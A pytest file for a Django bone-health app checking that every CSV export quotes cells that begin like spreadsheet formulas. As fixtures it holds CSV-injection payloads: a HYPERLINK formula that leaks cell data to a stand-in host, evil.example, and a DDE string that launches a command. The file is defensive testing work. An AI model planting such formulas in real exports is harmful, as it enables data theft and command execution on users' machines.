"""Every CSV the app writes neutralises spreadsheet formulas (OWASP "CSV injection").

A cell a spreadsheet would evaluate (starting with =, +, -, @, tab or carriage return) is written
with a leading single quote; plain numbers such as a T-score of -2.5 stay numbers.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from bonehealth.accounts.models import Site
from bonehealth.csv_safe import csv_cell
from tests.factories import PatientFactory
from tests.monitoring.app.overview_data import due

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open record")'


def _rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Jane Example", "Jane Example"),
        ("", ""),
        # Numbers are numbers: a clinician exporting T-scores wants to sort and chart them.
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        (-2.5, "-2.5"),
        (-40, "-40"),
        (None, ""),
    ],
)
def test_cells_that_start_a_formula_are_quoted_and_numbers_are_not(
    value: object, written: str
) -> None:
    assert csv_cell(value) == written


@given(st.text(min_size=1))
def test_no_written_cell_starts_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    cell = csv_cell(text)
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell)  # only a plain number may keep its sign
        assert "=" not in cell


@pytest.mark.django_db
def test_worklist_csv_quotes_a_patient_name_formula(nurse_client: Client, site: Site) -> None:
    patient = PatientFactory(site=site, mrn="=1+1", name=FORMULA)
    due(patient, "dexa", in_days=3)
    rows = _rows(nurse_client.get(reverse("monitoring:worklist_csv")))
    assert [(r["mrn"], r["name"]) for r in rows] == [("'=1+1", "'" + FORMULA)]
    assert rows[0]["days_past_due"] == "0"


@pytest.mark.django_db
def test_audit_csv_quotes_a_typed_login_username(admin_client_: Client) -> None:
    # An attacker types a formula as the username on the login page; the failure is audited.
    Client().post(reverse("accounts:login"), {"username": FORMULA, "password": "wrong-password"})
    response = admin_client_.get(reverse("audit:export"), {"action": "login_failed"})
    rows = _rows(response)
    assert [r["username"] for r in rows] == ["'" + FORMULA]


def test_every_csv_the_app_writes_goes_through_the_helper() -> None:
    # A new export written with csv.writer directly would skip the neutralisation.
    root = Path(__file__).resolve().parent.parent
    writers = [
        path.relative_to(root).as_posix()
        for package in ("bonehealth", "patients", "monitoring")
        for path in (root / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == ["bonehealth/csv_safe.py"]
